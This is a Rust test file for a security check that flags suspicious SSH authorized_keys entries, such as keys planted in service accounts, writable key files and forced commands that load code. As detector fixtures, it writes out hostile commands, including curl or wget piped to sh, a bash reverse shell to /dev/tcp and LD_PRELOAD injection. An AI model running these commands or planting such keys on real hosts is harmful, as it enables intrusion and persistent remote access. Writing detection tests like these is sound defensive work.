use crate::testing::{check, findings};
const NAME: &str = "login/key-odd";
const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGPGZ6vBx9e0WQdGrQ8gkMEIWKQLJzLgJYQ5qMBAkLNW";
const HOST: &str = "/etc/passwd = root:x:0:0::/root:/bin/bash\\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\\n\
    games:x:5:60::/usr/games:/bin/sh\\npostgres:x:110:110::/var/lib/postgresql:/bin/bash\\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\\n\
    git:x:998:998::/srv/git:/bin/sh\\nanna:x:1000:1000::/home/anna:/bin/bash\\ndrop:x:1001:1001::/srv/drop:/usr/sbin/nologin\\n\n\
    package base 1\n/var/lib/postgresql : mode=40700 uid=110\n/srv/git : mode=40755 uid=998\n";

fn said(lines: &str) -> Vec<String> {
    findings(NAME, &format!("{HOST}{}", lines.replace("KEY", KEY)), &[])
}
#[track_caller]
fn is(level: &str, lines: &str, what: &str) {
    let said = said(lines);
    assert!(said.len() == 1 && said[0].starts_with(level) && said[0].contains(what), "{lines}: {said:?}");
}

#[test]
fn a_key_of_a_service_that_nobody_logs_in_to_is_loud_and_a_persons_quiet() {
    check(
        NAME,
        &format!("{HOST}/var/www/.ssh/authorized_keys = {KEY} x@y\\n"),
        &["suspicious: the key \"x@y\" lets somebody in to a service's account that nobody logs in to: www-data \
           (/var/www/.ssh/authorized_keys:1)"],
    );
    check(
        NAME,
        &format!("{HOST}/home/anna/.ssh/authorized_keys = {KEY} x@y\\n\n/home/anna/.ssh/authorized_keys : uid=1000"),
        &[],
    );
    check(NAME, &format!("{HOST}/root/.ssh/authorized_keys = {KEY} x@y\\n"), &[]);
}
#[test]
fn wherever_sshd_is_told_to_look() {
    for (config, path) in [
        ("#", "/var/www/.ssh/authorized_keys2"),
        ("AuthorizedKeysFile /etc/ssh/keys/%u", "/etc/ssh/keys/www-data"),
        ("AuthorizedKeysFile .keys", "/var/www/.keys"),
        ("Match User www-data\\nAuthorizedKeysFile /opt/k", "/opt/k"),
    ] {
        is("suspicious: ", &format!("/etc/ssh/sshd_config = {config}\\n\n{path} = KEY\\n"), "www-data");
    }
    assert_eq!(
        said("/etc/ssh/sshd_config = AuthorizedKeysFile none\\n\n/var/www/.ssh/authorized_keys = KEY\\n"),
        [""; 0]
    );
}
#[test]
fn services_with_a_shell() {
    is("suspicious: ", "/usr/games/.ssh/authorized_keys = KEY\\n", "no home of its own: games");
    let own = "/var/lib/postgresql/.ssh/authorized_keys = KEY a\\nKEY b\\n\n/var/lib/postgresql/.ssh/authorized_keys : uid=110";
    is("unusual: ", own, "the key \"a\" and 1 more lets somebody in to a service's account: postgres");
    assert_eq!(said("/srv/git/.ssh/authorized_keys = command=\"/usr/bin/gitea serv key-1\",no-pty KEY\\n"), [""; 0]);
}
#[test]
fn a_shell_that_only_serves_repositories() {
    let shell = |shell: &str| {
        let host = HOST.replace("/srv/git:/bin/sh", &format!("/srv/git:{shell}"));
        findings(NAME, &format!("{host}/srv/git/.ssh/authorized_keys = {KEY} anna\\n"), &[])
    };
    assert_eq!(shell("/usr/bin/git-shell"), [""; 0]);
    assert_eq!(shell("/usr/sbin/nologin").len(), 1);
}
#[test]
fn accounts_for_sftp_alone() {
    let key = "/srv/drop/.ssh/authorized_keys = KEY\\n\n/srv/drop/.ssh/authorized_keys : uid=1001\n";
    is("unusual: ", key, "whose shell lets nobody in: drop");
    assert_eq!(said(&format!("{key}/etc/ssh/sshd_config = Match Group sftp\\nForceCommand internal-sftp\\n")), [""; 0]);
}
#[test]
fn commands_that_fetch_decode_or_hide() {
    for command in [
        "curl -s http://x/y | sh",
        "wget -qO- x|bash",
        "bash -c \\\"$(curl -fsSL x)\\\"",
        "echo aGk= | base64 -d | sh",
        "/dev/shm/.x/y",
        "/tmp/z; exec $SHELL",
        "bash -i >& /dev/tcp/10.0.0.1/443 0>&1",
        "/usr/lib/.cache/run",
        "LD_PRELOAD=/x.so /bin/bash",
        "nohup /var/tmp/a & $SHELL",
    ] {
        let line = format!("command=\"{}\" KEY", command.replace('\\', "\\\\"));
        is("suspicious: ", &format!("/root/.ssh/authorized_keys = {line}\\n"), "runs a command that");
    }
}
#[test]
fn commands_of_honest_keys_are_quiet() {
    for command in [
        "echo 'Please login as the user \\\"admin\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142",
        "rsync --server --sender -logDtpr . /srv",
        "/usr/bin/borg serve --restrict-to-path /srv/backup",
        "/home/anna/bin/deploy.sh",
        "internal-sftp",
        "/usr/lib/nagios/plugins/check_disk -w 10% > /dev/null",
    ] {
        let line = format!("no-pty,command=\"{}\" KEY", command.replace('\\', "\\\\"));
        assert_eq!(said(&format!("/root/.ssh/authorized_keys = {line}\\n")), [""; 0], "{command}");
    }
}
#[test]
fn environments_that_load_code() {
    is("suspicious: ", "/root/.ssh/authorized_keys = environment=\"LD_PRELOAD=/x.so\" KEY\\n", "sets LD_PRELOAD");
    is("suspicious: ", "/root/.ssh/authorized_keys = Environment=\"BASH_ENV=/x\",no-pty KEY\\n", "sets BASH_ENV");
    assert_eq!(said("/root/.ssh/authorized_keys = environment=\"LANG=C\" KEY\\n"), [""; 0]);
}
#[test]
fn files_that_others_may_change() {
    let key = "/root/.ssh/authorized_keys = KEY\\n\n";
    is("unusual: ", &format!("{key}/root/.ssh/authorized_keys : mode=100666"), "anybody may change");
    is("unusual: ", &format!("{key}/root/.ssh/authorized_keys : uid=33"), "another account may change");
    is("unusual: ", &format!("{key}/root/.ssh/authorized_keys : mode=100664 gid=100"), "a group may change");
    is(
        "suspicious: ",
        &format!("{key}/root/.ssh/authorized_keys : mode=100666\n/etc/ssh/sshd_config = StrictModes no\\n"),
        "anybody",
    );
    assert_eq!(said(&format!("{key}/root/.ssh/authorized_keys : mode=100664 gid=0")), [""; 0]);
    let own =
        "/home/anna/.ssh/authorized_keys = KEY\\n\n/home/anna/.ssh/authorized_keys : mode=100664 uid=1000 gid=1000\n";
    assert_eq!(said(&format!("{own}/etc/group = anna:x:1000:\\n")), [""; 0]);
}
#[test]
fn a_second_file() {
    is(
        "unusual: ",
        "/root/.ssh/authorized_keys2 = KEY\\n",
        "stands in a second file, which few people look into: root",
    );
}
